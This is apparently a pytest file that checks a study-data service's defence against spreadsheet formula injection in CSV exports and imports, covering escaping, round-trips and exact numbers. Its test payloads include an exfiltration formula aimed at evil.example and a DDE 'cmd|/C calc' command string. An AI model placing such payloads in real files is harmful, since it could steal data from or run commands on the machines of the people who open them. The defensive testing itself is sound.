"""Other people's words are text to a spreadsheet, never a formula; numbers stay exact."""

import csv
import io
import zipfile

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from serving import serving

from api.client import Client
from api.delimited import csv_text
from api.representations import CSV, Described, encode
from api.schemas.logs import DoseIn, EventIn
from api.schemas.studies import StudyIn
from ingest.events import read_events
from ingest.logs import spelled
from ingest.spreadsheet import plain, safe

FORMULAS = [
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1)", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)", "\t=1+1", "\r=1", "＝1+1", "'=1", "''+a",
]  # fmt: skip
NUMBERS = ["-5", "+3.25", "-1e-07", "-.5", "-inf", "", "-", "a=b", "P01", "it's"]


def is_formula(cell: str) -> bool:
    """What a spreadsheet would run: it looks at the first character."""
    try:
        float(cell)
        return False
    except ValueError:
        return cell != "-" and cell[:1] in tuple("=+-@\t\r＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_gets_an_apostrophe_and_loses_it_again(text):
    assert not is_formula(safe(text))
    assert plain(safe(text)) == text


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_and_harmless_text_stay_as_they_are(text):
    assert safe(text) == text == plain(text)


@given(st.text(alphabet="'=+-@\t\rab1.5e＝", max_size=8))
def test_any_text_comes_back(text):
    assert not is_formula(safe(text))
    assert plain(safe(text)) == text


@given(st.lists(st.floats(allow_nan=False, allow_infinity=False), min_size=1, max_size=20))
def test_numbers_in_tables_are_exact(values):
    table = pd.DataFrame({"x": np.array(values), "=note": ["=1+1"] * len(values)})
    rows = list(csv.reader(io.StringIO(csv_text(table, index=False))))
    assert rows[0] == ["x", "'=note"]
    assert [float(row[0]) for row in rows[1:]] == values
    assert {row[1] for row in rows[1:]} == {"'=1+1"}


@pytest.mark.parametrize("extra", [None, 1.5, True])
def test_tables_that_pandas_writes_are_safe_too(extra):
    table = pd.DataFrame({"mixed": ["=1+1", extra], "ok": [-1.0, 2.0]})
    for text in (csv_text(table, index=False), encode(Described(table, {}, {}), CSV).decode()):
        assert "'=1+1" in text
        assert ",=1+1" not in text
        assert "-1.0" in text


def test_a_log_written_with_formulas_is_read_as_it_was_meant(tmp_path):
    path = tmp_path / "events.csv"
    path.write_text(
        f'phase,kind,start,end,note\n"{spelled("=cmd()")}",stress,2026-01-01T00:00:00Z,'
        "2026-01-01T00:01:00Z,'@x\n"
    )
    events = read_events(path, subject="P01")
    assert events["phase"].tolist() == ["=cmd()"]


def test_nothing_that_leaves_the_service_runs(tmp_path):
    evil = "=HYPERLINK(1)"
    with serving(str(tmp_path / "store")) as url, Client(url) as client:
        study = client.create_study(StudyIn(title=evil, tz="UTC"))
        client.create_subject(study.id, evil, note="+1+cmd")
        file = tmp_path / "a.txt"
        file.write_text("".join(f"{800 + i % 50}\n" for i in range(400)))
        client.upload(study.id, file, evil, name="@SUM(A1)", start="2026-03-04T08:00:00Z")
        when = {"start": "2026-03-04T08:01:00Z", "end": "2026-03-04T08:02:00Z"}
        client.add(study.id, EventIn(subject=evil, phase="-1+1", kind="stress", **when))
        said = {"substance": "=magnesium", "amount": 0.5, "unit": "mg", "status": "taken"}
        client.add(study.id, DoseIn(subject=evil, time="2026-03-04T09:00:00Z", **said))
        http, texts = client._http, []
        for what in ("subjects", "recordings", "events", "doses"):
            answer = http.get(f"/v1/studies/{study.id}/{what}", headers={"Accept": "text/csv"})
            texts.append(answer.text)
        answer = http.get(f"/v1/studies/{study.id}/tidy")
        if answer.status_code == 200:
            archive = zipfile.ZipFile(io.BytesIO(answer.content))
            names = [name for name in archive.namelist() if name.endswith(".csv")]
            assert names
            texts += [archive.read(name).decode() for name in names]
    assert any("'=HYPERLINK" in text for text in texts)
    for text in texts:
        for row in csv.reader(io.StringIO(text)):
            assert not [cell for cell in row if is_formula(cell)]
